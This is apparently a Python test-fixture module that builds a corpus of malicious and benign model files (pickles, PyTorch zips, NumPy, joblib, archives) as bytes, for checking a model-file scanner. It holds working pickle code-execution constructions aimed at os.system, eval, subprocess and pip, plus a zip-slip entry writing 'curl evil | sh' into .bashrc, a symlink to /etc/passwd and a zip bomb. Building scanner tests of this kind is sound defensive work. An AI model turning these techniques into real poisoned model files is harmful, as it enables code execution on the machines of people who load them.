"""A corpus of malicious model files and their benign twins, built as bytes. Nothing here is ever loaded.

Pickles are produced by `pickle.dumps` of harmless stand-ins whose module/name text is then patched
(protocol 0-2, where names are plain text), or assembled opcode by opcode. Every command payload would
create the canary file if some scanner ever executed it; tests assert it never appears.
"""

from __future__ import annotations

import collections
import io
import pickle
import struct
import tarfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

import numpy


@dataclass(frozen=True)
class Case:
    """One corpus file."""

    name: str
    """Relative path to write it to (extensions are deliberately misleading for some)."""
    data: bytes
    """The file's bytes."""
    malicious: bool
    """Whether a scanner must flag it."""
    expect: str = ""
    """A rule id our scanner must report (malicious cases)."""


def _target(*args: object) -> None:
    """Stand-in callable; its name is patched to the real target in the bytes."""


class _Call:
    def __init__(self, args: tuple[object, ...]) -> None:
        self.args = args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return (_target, self.args)


def _patch(data: bytes, module: str, name: str, stand_in: str = "_target") -> bytes:
    old = f"{__name__}\n{stand_in}\n".encode()
    assert old in data, "stand-in not found: use protocol <= 2"
    return data.replace(old, f"{module}\n{name}\n".encode())


def call(module: str, name: str, *args: object, protocol: int = 2) -> bytes:
    """A pickle that calls module.name(*args) when loaded."""
    return _patch(pickle.dumps(_Call(args), protocol=protocol), module, name)


def _sbu(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def stack_global_with_memo(command: str) -> bytes:
    """Protocol 4: names memoized inside a harmless tuple, fetched back with BINGET for STACK_GLOBAL."""
    return (b"\x80\x04" + _sbu("os") + b"\x94" + _sbu("system") + b"\x94" + b"\x86\x94" + b"0"
            + b"h\x00h\x01\x93" + _sbu(command) + b"\x85R.")


def inst_protocol0(command: str) -> bytes:
    return b"(S'" + command.encode() + b"'\nios\nsystem\np0\n."


def partial_of_system(command: str) -> bytes:
    """functools.partial(os.system, cmd)() in protocol 2."""
    return (b"\x80\x02cfunctools\npartial\ncos\nsystem\nX" + struct.pack("<I", len(command)) + command.encode()
            + b"\x86R)R.")


def zip_bytes(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """A zip of `members`, byte-identical on every call (a fixed timestamp), so test ids are stable too."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in members.items():
            z.writestr(zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0)), data, compress_type=method)
    return out.getvalue()


def set_encrypted_flag(data: bytes) -> bytes:
    """Set the encryption bit on every local and central header (the content stays plain)."""
    buf = bytearray(data)
    for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = buf.find(sig)
        while pos != -1:
            buf[pos + offset] |= 0x01
            pos = buf.find(sig, pos + 4)
    return bytes(buf)


def npy_bytes(array_header: str, payload: bytes) -> bytes:
    header = array_header.encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def _rebuild_tensor_v2(*args: object) -> None:
    """Stand-in for torch._utils._rebuild_tensor_v2."""


class _FloatStorage:
    """Stand-in for torch.FloatStorage."""


class _Tensor:
    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return (_rebuild_tensor_v2, (("storage", _FloatStorage, "0", "cpu", 4), 0, (2, 2), (2, 1), False,
                                     collections.OrderedDict()))


class _PersistentPickler(pickle.Pickler):
    def persistent_id(self, obj: object) -> object:
        return obj if isinstance(obj, tuple) and obj[:1] == ("storage",) else None


def torch_state_dict_pickle() -> bytes:
    out = io.BytesIO()
    _PersistentPickler(out, protocol=2).dump(collections.OrderedDict([("fc.weight", _Tensor()),
                                                                      ("fc.bias", _Tensor())]))
    data = _patch(out.getvalue(), "torch._utils", "_rebuild_tensor_v2", "_rebuild_tensor_v2")
    return _patch(data, "torch", "FloatStorage", "_FloatStorage")


def torch_zip(folder: str, data_pkl: bytes) -> bytes:
    return zip_bytes({f"{folder}/data.pkl": data_pkl, f"{folder}/byteorder": b"little",
                      f"{folder}/data/0": b"\x00" * 64, f"{folder}/version": b"3\n"})


class _Estimator:
    def __reduce__(self) -> tuple[object, tuple[object, ...], dict[str, object]]:
        state = {"penalty": "l2", "C": 1.0, "classes_": numpy.array([0, 1]),
                 "coef_": numpy.array([[0.5, -0.25, 1.0]]), "intercept_": numpy.array([0.1]),
                 "n_iter_": numpy.array([7], dtype=numpy.int32), "_sklearn_version": "1.5.0"}
        return (_Estimator, (), state)


def sklearn_pickle() -> bytes:
    data = pickle.dumps(_Estimator(), protocol=2)
    return _patch(data, "sklearn.linear_model._logistic", "LogisticRegression", "_Estimator")


def joblib_like(tail_global: tuple[str, str] | None) -> bytes:
    """joblib's layout: a NumpyArrayWrapper pickled, then the raw array bytes, then the pickle goes on."""
    head = (b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(X\x08\x00\x00\x00subclass"
            b"cnumpy\nndarray\nX\x05\x00\x00\x00shape"
            b"K\x04\x85X\x05\x00\x00\x00orderX\x01\x00\x00\x00CX\x05\x00\x00\x00dtype"
            b"cnumpy\ndtype\nX\x02\x00\x00\x00f8\x89\x88\x87R(K\x03X\x01\x00\x00\x00<NNNJ\xff\xff\xff\xff"
            b"J\xff\xff\xff\xffK\x00tbX\n\x00\x00\x00allow_mmap\x88X\x1b\x00\x00\x00numpy_array_alignment_bytes"
            b"K\x10ub")
    padding = b"\x03\xff\xff\xff"
    array = struct.pack("<4d", 0.0, 1.0, 2.0, float("nan"))
    rest = b"0"
    if tail_global:
        rest += f"c{tail_global[0]}\n{tail_global[1]}\n(X\x01\x00\x00\x00xtR0".encode()
    return head + padding + array + rest + b"N."


def cases(canary: Path) -> list[Case]:
    """The whole corpus; `canary` is the file every payload would create."""
    cmd = f"touch {canary}"
    py = f"open({str(canary)!r}, 'w').close()"
    evil = call("os", "system", cmd)
    numpy_array = pickle.dumps(numpy.arange(6, dtype=numpy.float32).reshape(2, 3), protocol=2)
    bomb = zip_bytes({"archive/data/0": b"\x00" * (20 * 1024 * 1024)}, zipfile.ZIP_DEFLATED)
    nested = zip_bytes({"models/inner.zip": zip_bytes({"evil.pkl": evil}, zipfile.ZIP_DEFLATED)})
    tar_out = io.BytesIO()
    with tarfile.open(fileobj=tar_out, mode="w") as tar:
        link = tarfile.TarInfo("model/weights.bin")
        link.type, link.linkname = tarfile.SYMTYPE, "../../../etc/passwd"
        tar.addfile(link)
    return [
        Case("malicious/os_system_global.pkl", evil, True, "pickle/dangerous-global"),
        Case("malicious/stack_global_memo.pkl", stack_global_with_memo(cmd), True, "pickle/dangerous-global"),
        Case("malicious/inst_protocol0.pkl", inst_protocol0(cmd), True, "pickle/dangerous-global"),
        Case("malicious/builtins_eval.pkl", call("builtins", "eval", py), True, "pickle/dangerous-global"),
        Case("malicious/importlib.pkl", call("importlib", "import_module", "os"), True, "pickle/dangerous-global"),
        Case("malicious/pip_main.pkl", call("pip", "main", ["install", "evil-package"]), True,
             "pickle/dangerous-global"),
        Case("malicious/code_interact.pkl", call("code", "interact"), True, "pickle/dangerous-global"),
        Case("malicious/methodcaller.pkl", call("operator", "methodcaller", "system", cmd), True,
             "pickle/dangerous-global"),
        Case("malicious/torch_hub.pkl", call("torch.hub", "load", "attacker/repo", "model"), True,
             "pickle/dangerous-global"),
        Case("malicious/partial_system.pkl", partial_of_system(cmd), True, "pickle/dangerous-global"),
        Case("malicious/payload_then_garbage.pkl", evil[:-1] + b"\xff\xfe\x00garbage", True,
             "pickle/dangerous-global"),
        Case("malicious/second_stream.pkl", pickle.dumps(collections.OrderedDict(a=1), protocol=2)
             + call("subprocess", "Popen", ["sh", "-c", cmd]), True, "pickle/dangerous-global"),
        Case("malicious/renamed_weights.txt", call("posix", "system", cmd, protocol=0), True,
             "pickle/dangerous-global"),
        Case("malicious/pytorch_renamed.bin", torch_zip("weird-folder_name", evil), True, "pickle/dangerous-global"),
        Case("malicious/nested.zip", nested, True, "pickle/dangerous-global"),
        Case("malicious/object_array.npy", npy_bytes("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
                                                     call("os", "system", cmd)), True, "pickle/dangerous-global"),
        Case("malicious/model.joblib", joblib_like(("os", "system")), True, "pickle/dangerous-global"),
        Case("malicious/arrays.npz", zip_bytes({"x.npy": npy_bytes(
            "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", call("runpy", "run_path", "/tmp/x.py"))},
            zipfile.ZIP_DEFLATED), True, "pickle/dangerous-global"),
        Case("malicious/encrypted_flag.pt", set_encrypted_flag(torch_zip("archive", evil)), True,
             "pickle/dangerous-global"),
        Case("malicious/zip_bomb.zip", bomb, True, "archive/bomb"),
        Case("malicious/traversal.zip", zip_bytes({"../../.bashrc": b"curl evil | sh\n"}), True,
             "archive/path-traversal"),
        Case("malicious/symlink.tar", tar_out.getvalue(), True, "archive/symlink-escape"),
        Case("benign/sklearn_logreg.pkl", sklearn_pickle(), False),
        Case("benign/numpy_array.pkl", numpy_array, False),
        Case("benign/torch_state_dict.pt", torch_zip("archive", torch_state_dict_pickle()), False),
        Case("benign/ordered_dict.pkl", pickle.dumps(collections.OrderedDict(w=[1.0, 2.0], b=0.5), protocol=4),
             False),
        Case("benign/model.joblib", joblib_like(None), False),
        Case("benign/float_array.npy", npy_bytes("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }",
                                                 struct.pack("<2f", 1.0, 2.0)), False),
        Case("benign/arrays.npz", zip_bytes({"w.npy": npy_bytes(
            "{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }", struct.pack("<2d", 1.0, 2.0))},
            zipfile.ZIP_DEFLATED), False),
        Case("benign/README.md", b"# Model card\n\nA small logistic regression.\n", False),
    ]


def write(root: Path, corpus: list[Case]) -> None:
    for case in corpus:
        path = root / case.name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(case.data)
